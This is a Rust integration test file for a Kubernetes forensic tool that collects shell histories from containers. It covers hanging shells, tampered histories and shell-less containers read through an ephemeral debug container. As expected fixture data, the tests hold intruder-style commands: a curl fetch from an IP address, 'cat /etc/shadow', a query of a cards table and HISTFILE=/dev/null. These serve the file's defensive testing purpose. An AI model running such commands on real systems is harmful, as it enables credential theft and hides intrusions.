//! Shells that are none, histories that somebody did away with, and containers without a shell.

use std::process::Command;

use serde_json::Value;

use super::harness::{
    Ended, collect_namespace, json_lines, kubeconfig, kubectl, kubectl_json, place, rows, text, verify,
};

/// A namespace of the scenario's folder that lives as long as a test.
pub(super) struct Scenario(&'static str);

impl Scenario {
    pub(super) fn apply(name: &'static str) -> Self {
        let file = format!("{}/tests/cluster/scenario/{name}.yaml", env!("CARGO_MANIFEST_DIR"));
        let run = |arguments: &[&str]| {
            let output = kubectl(&kubeconfig("admin")).args(arguments).output().unwrap();
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        };
        run(&["delete", "namespace", name, "--ignore-not-found", "--wait=true"]);
        run(&["create", "namespace", name]);
        let scenario = Self(name);
        super::harness::eventually("the default service account", || {
            let mut get = kubectl(&kubeconfig("admin"));
            get.args(["-n", name, "get", "serviceaccount", "default"]).output().unwrap().status.success()
        });
        run(&["apply", "-f", &file]);
        run(&["-n", name, "wait", "--for=condition=Ready", "--timeout=120s", "pod", "--all"]);
        scenario
    }

    fn collect(&self, bundle: &str, more: &[&str]) -> (std::path::PathBuf, Ended) {
        let dir = place(bundle);
        let mut command: Command = collect_namespace(&kubeconfig("admin"), self.0, &dir);
        (dir, Ended::of(&command.args(["--only", "history"]).args(more).output().unwrap()))
    }
}

impl Drop for Scenario {
    fn drop(&mut self) {
        let mut command = kubectl(&kubeconfig("admin"));
        drop(command.args(["delete", "namespace", self.0, "--wait=false"]).output());
    }
}

fn of_container(rows: &[Value], container: &str) -> Vec<Value> {
    rows.iter().filter(|row| row["container_name"] == container).cloned().collect()
}

fn states(rows: &[Value], file: &str) -> Vec<String> {
    rows.iter().filter(|row| text(row, "history_file") == file).map(|row| text(row, "history_state")).collect()
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn a_shell_that_never_ends_or_prints_for_ever_does_not_hold_up_the_run() {
    let scenario = Scenario::apply("hostile-shells");
    let (dir, ended) = scenario.collect("hostile-shells", &["--exec-timeout", "3s"]);
    assert_eq!(ended.status, Some(3), "{}", ended.said);
    assert_eq!(verify(&dir).report["ok"], true);
    let found = rows(&dir, "commandhistory_CL");
    for (container, words) in [("sleeps", "did not end within 3 s"), ("prints", "not that of the script")] {
        let rows = of_container(&found, container);
        assert_eq!(rows.len(), 1, "{rows:?}");
        assert_eq!(text(&rows[0], "history_state"), "failed");
        let reason = text(&rows[0], "reason");
        assert!(reason.contains(words) && reason.contains("may still run"), "{reason}");
        let gaps = ended.report["gaps"].as_array().unwrap();
        assert!(gaps.iter().any(|gap| gap["reason"].as_str().unwrap().contains(words)), "{gaps:?}");
        let actions = json_lines(&fs_err::read(dir.join("actions.jsonl")).unwrap());
        let name = format!("hostile-shells/hostile/{container}");
        let given_up =
            actions.iter().filter(|line| line["container"] == name.as_str() && line["may_still_run"] == true);
        assert_eq!(given_up.count(), 1, "one process, not repeated");
    }

    let cleaned = of_container(&found, "cleaned");
    assert_eq!(states(&cleaned, "/root/.bash_history"), ["tampered"], "{cleaned:?}");
    assert_eq!(states(&cleaned, "/root/.bashrc"), ["setting", "tampered"]);
    let commands = |file: &str| -> Vec<String> {
        cleaned.iter().filter(|row| text(row, "history_file") == file).map(|row| text(row, "command")).collect()
    };
    assert_eq!(commands("/var/log/.h"), ["curl http://198.51.100.7/x"], "the file that .bashrc names");
    assert_eq!(commands("/root/.mysql_history"), ["select * from cards;"]);
    let specified: Vec<_> = cleaned.iter().filter(|row| row["trust"] == "pod-spec").collect();
    assert_eq!(specified.len(), 1, "{cleaned:?}");
    assert_eq!(text(specified[0], "command"), "HISTFILE=/dev/null");
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn a_container_without_a_shell_is_read_from_a_debug_container() {
    let scenario = Scenario::apply("shell-less");
    let asked = ["--debug-container", "--debug-image", "local/busybox:1"];
    let refused = place("shell-less-refused");
    let mut command = collect_namespace(&kubeconfig("admin"), "shell-less", &refused);
    let output = command.args(asked).output().unwrap();
    assert_eq!(output.status.code(), Some(2), "without a terminal and without --yes");
    assert!(String::from_utf8_lossy(&output.stderr).contains("--yes") && !refused.exists());

    let (dir, ended) = scenario.collect("shell-less", &[&asked[..], &["--yes"]].concat());
    assert_eq!(ended.status, Some(0), "{} {}", ended.said, ended.report);
    let service = of_container(&rows(&dir, "commandhistory_CL"), "service");
    assert_eq!(service.len(), 2, "{service:?}");
    assert_eq!(states(&service, "/root/.zsh_history"), ["tampered"]);
    let command = service.iter().find(|row| row["history_state"] == "found").unwrap();
    assert_eq!((text(command, "command"), text(command, "trust")), ("cat /etc/shadow".into(), "in-container".into()));
    assert!(text(command, "read_method").starts_with("debug-container"));

    let pod = kubectl_json(&["-n", "shell-less", "get", "pod", "service"]);
    let added = pod["spec"]["ephemeralContainers"].as_array().unwrap();
    assert_eq!(added.len(), 1, "only where there is no shell");
    assert_eq!(added[0]["targetContainerName"], "service");
    let status = &pod["status"]["ephemeralContainerStatuses"][0];
    assert!(status["state"]["terminated"].is_object(), "its process has ended: {status}");
    assert!(pod["status"]["containerStatuses"].as_array().unwrap().iter().all(|status| status["restartCount"] == 0));

    let journal = fs_err::read_to_string(dir.join("journal.jsonl")).unwrap();
    assert!(journal.contains(added[0]["name"].as_str().unwrap()), "the name is recorded");
    for kind in ["pods-before-debug", "pods-after-debug"] {
        let parts = super::harness::files(&dir.join("raw").join(kind));
        let text = zstd::decode_all(fs_err::File::open(&parts[0]).unwrap()).unwrap();
        let kept: Value = serde_json::from_slice(&text).unwrap();
        assert_eq!(kept["metadata"]["uid"], pod["metadata"]["uid"]);
        assert_eq!(kept["spec"]["ephemeralContainers"].is_array(), kind == "pods-after-debug");
    }
}
